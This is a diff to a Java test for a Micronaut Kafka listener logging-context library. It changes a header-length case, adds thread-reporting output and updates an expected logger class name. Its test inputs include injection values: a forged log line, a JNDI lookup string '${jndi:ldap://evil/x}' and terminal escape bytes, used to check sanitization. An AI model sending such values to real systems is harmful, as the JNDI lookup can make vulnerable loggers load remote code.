@@ -89,7 +89,7 @@ class KafkaListenerRecordContextTest implements TestPropertyProvider {
       throws Exception {
     String run = run();
     Map<String, byte[]> hostile = new LinkedHashMap<>();
-    hostile.put("65 characters", "r".repeat(65).getBytes(StandardCharsets.US_ASCII));
+    hostile.put("129 characters", "r".repeat(129).getBytes(StandardCharsets.US_ASCII));
     hostile.put("a forged line", "ok\n{\"request_id\":\"forged\"}".getBytes(StandardCharsets.US_ASCII));
     hostile.put("lookup", "${jndi:ldap://evil/x}".getBytes(StandardCharsets.US_ASCII));
     hostile.put("NUL and ESC", "n\u0000\u001b[2Jx".getBytes(StandardCharsets.US_ASCII));
@@ -149,10 +149,13 @@ class KafkaListenerRecordContextTest implements TestPropertyProvider {
     System.out.println("with logctx-micronaut, reactive listener: " + reactive);
     System.out.println("with logctx-micronaut, the bean's own exception handler: " + handler);
     assertThat(executeOn.own()).as(executeOn.toString()).isEqualTo(FEW);
+    System.out.println(
+        "the @ExecuteOn listener ran on "
+            + threadsOf("execute-on record received " + KafkaRounds.keyPrefix(run)));
     assertThat(reactive.own()).as(reactive.toString()).isEqualTo(FEW);
     assertThat(handler.own()).as(handler.toString()).isEqualTo(FEW);
 
-    String defaultLogger = "io.micronaut.configuration.kafka.exceptions.DefaultKafkaListenerExceptionHandler";
+    String defaultLogger = "io.micronaut.configuration.kafka.exceptions.KafkaListenerExceptionHandler";
     List<CapturedLog.Line> defaultLines =
         logs.awaitLines(
             line ->
